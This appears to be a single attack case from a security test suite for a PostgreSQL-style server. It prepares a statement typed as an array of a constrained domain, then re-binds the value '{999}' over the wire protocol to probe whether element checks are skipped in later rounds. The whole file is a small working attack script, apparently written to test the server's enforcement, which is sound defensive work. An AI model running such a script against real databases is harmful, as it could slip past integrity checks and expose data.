"""Binds, in later rounds, a parameter that is declared to be an array of checked elements."""

from attacks.frames import SYNC, ask, bind, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.connect() as connection:
        found = connection.execute("SELECT typarray FROM pg_type WHERE typname = 'account_id'")
        row = found.fetchone()
    assert row is not None
    with server.login() as client:
        ask(client, parse(b"SELECT 1 WHERE $1 IS NULL", b"s", [int(str(row[0]))]), SYNC)
        got = [ask(client, bind(b"s", values=[b"{999}"]), execute(), SYNC) for _ in range(2)]
        return b"".join(got)
